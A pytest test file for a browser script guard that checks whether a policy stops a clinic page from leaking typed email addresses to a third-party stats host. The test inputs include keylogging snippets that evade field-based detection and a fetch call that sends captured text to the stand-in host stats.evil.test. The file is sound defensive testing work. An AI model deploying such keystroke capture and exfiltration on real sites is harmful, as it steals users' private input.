"""What a person types is known wherever code puts it.

Fields that a script empties or floods, or that are none, and frames of the site's own.
"""

import pytest

from scriptward.app.guard import guard_script
from scriptward.policy.language.reader import parsed

HOST = "stats.evil.test"
POLICY = f"""
version: 1
site: www.clinic.test
mode: enforce
defaults: {{"*": forbid}}
recipients:
  stats: {{hosts: [{HOST}], baa: none}}
scripts:
  - {{match: "/**", approved: {{by: lab, date: 2026-11-01, why: "the page's own"}}}}
rules:
  - {{id: own, permit: [send, read, load], to: self}}
  - {{id: counted, permit: [send, load], to: stats}}
  - {{id: typed, forbid: send, to: stats, data: [email, free_text, form_value]}}
"""
TYPED = "jane.roe7@example.test"
WAYS = {
    "kept": """
        place.innerHTML = "<input name=email>";
        at = place.firstChild;
    """,
    "emptied": """
        place.innerHTML = "<input name=email>";
        at = place.firstChild;
        at.oninput = (event) => { keys += event.data; at.value = ""; };
    """,
    "stopped": """
        place.innerHTML = "<input name=email>";
        at = place.firstChild;
        at.onkeydown = (event) => { keys += event.key; event.preventDefault(); };
    """,
    "no-field": """
        place.innerHTML = "<canvas tabindex=0></canvas>";
        at = place.firstChild;
        at.onkeydown = (event) => { keys += event.key; };
    """,
    "no-field, then keys of its own": """
        place.innerHTML = "<canvas tabindex=0></canvas>";
        at = place.firstChild;
        at.onkeydown = (event) => { if (event.isTrusted) keys += event.key; };
        at.onblur = () => {
          for (let i = 0; i < 90; i++)
            for (const key of ["Enter", ..."filler"])
              at.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
        };
    """,
    "closed-tree": """
        const tree = place.attachShadow({ mode: "closed" });
        tree.innerHTML = "<input name=email>";
        at = tree.firstChild;
    """,
    "overwritten": """
        place.innerHTML = "<input name=email>";
        at = place.firstChild;
        at.onchange = () => { keys = at.value; };
        at.onblur = () => {
          for (let i = 0; i < 90; i++) {
            const other = i % 2 ? at : place.appendChild(document.createElement("input"));
            other.value = "filler number " + i;
            other.dispatchEvent(new Event("input", { bubbles: true }));
          }
          at.value = "";
        };
    """,
    "opened-document": """
        document.open();
        document.write("<p></p><input name=email>");
        document.close();
        at = document.querySelector("input");
    """,
    "frame": """
        place.innerHTML = "<iframe></iframe>";
        const inside = place.firstChild.contentDocument;
        inside.body.innerHTML = "<input name=email>";
        at = inside.querySelector("input");
    """,
}
PAGE = (
    "<!doctype html><meta charset=utf-8><script src=/typing-guard.js></script><title>Visit</title>"
    "<link rel=icon href='data:,'><body><p></p><script>let keys = '', at;"
    "const begin = (way) => { way(document.querySelector('p')); at.focus(); };"
    f"const tell = (text) => fetch('http://{HOST}/?' + text,"
    "{method: 'POST', mode: 'no-cors', body: text}).catch(() => 0);"
    "</script>"
)


@pytest.mark.parametrize("way,pasted", [*((way, False) for way in WAYS), ("overwritten", True)])
def test_what_was_typed_stays_wherever_it_is_put(chromium, site, way, pasted):
    site.files["/typing-guard.js"] = guard_script(parsed(POLICY), headers=True)
    site.files["/typing"] = PAGE.encode()
    site.reached.clear()
    context = chromium.new_context()
    page = context.new_page()
    page.goto("http://www.clinic.test/typing")
    page.evaluate(f"begin((place) => {{ {WAYS[way]} }})")
    if pasted:
        page.keyboard.insert_text(TYPED)  # no key is pressed
    else:
        page.keyboard.type(TYPED)
    said = page.evaluate("at.blur(), keys || at.value")
    page.evaluate("tell('other')")
    page.evaluate("(said) => tell(said)", said)
    context.close()

    assert said == TYPED
    assert site.reached == ["/?other"]
